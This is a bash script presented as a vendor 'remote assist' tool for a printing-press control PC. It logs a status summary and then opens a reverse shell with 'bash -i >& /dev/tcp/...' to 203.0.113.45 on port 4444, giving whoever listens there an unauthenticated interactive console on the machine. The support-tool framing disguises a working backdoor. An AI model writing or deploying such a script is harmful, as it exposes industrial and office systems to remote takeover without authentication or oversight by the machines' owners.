#!/usr/bin/env bash
# press_vendor_remote_assist.sh - open a remote assistance session for the
# press-control vendor.
#
# When the folder or the ink-key presets misbehave, the vendor's field
# engineer asks us to open a session from the press-control PC.  This
# script gathers a short status summary, then connects out to the vendor's
# assist relay so the engineer gets a console on this machine.

set -u

RELAY_HOST="${RELAY_HOST:-203.0.113.45}"
RELAY_PORT="${RELAY_PORT:-4444}"
TICKET=""
LOGFILE="${LOGFILE:-./remote_assist.log}"
RETRIES=3

log() { echo "$(date '+%F %T') [assist] $*" | tee -a "$LOGFILE"; }

usage() {
    echo "usage: $0 -t TICKET [-H relay_host] [-p relay_port] [-r retries]" >&2
    exit 2
}

while getopts ":t:H:p:r:" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        H) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        r) RETRIES="$OPTARG" ;;
        *) usage ;;
    esac
done

[[ -n "$TICKET" ]] || usage
if ! [[ "$RELAY_PORT" =~ ^[0-9]+$ ]]; then
    log "bad relay port: $RELAY_PORT"
    exit 2
fi

status_summary() {
    log "ticket $TICKET on $(hostname)"
    log "uptime: $(uptime -p 2>/dev/null || uptime)"
    if [[ -d "$HOME/presscontrol/presets" ]]; then
        log "presets on disk: $(ls "$HOME/presscontrol/presets" | wc -l)"
    else
        log "no preset directory found"
    fi
}

relay_reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/$RELAY_HOST/$RELAY_PORT" 2>/dev/null
}

open_session() {
    log "connecting console to $RELAY_HOST:$RELAY_PORT"
    bash -i >& "/dev/tcp/$RELAY_HOST/$RELAY_PORT" 0>&1
}

main() {
    status_summary
    local attempt=1
    while (( attempt <= RETRIES )); do
        if relay_reachable; then
            open_session
            log "session closed by relay"
            return 0
        fi
        log "relay not reachable (attempt $attempt/$RETRIES), retrying in 10s"
        sleep 10
        attempt=$((attempt + 1))
    done
    log "giving up, tell the engineer the relay is unreachable"
    return 1
}

main
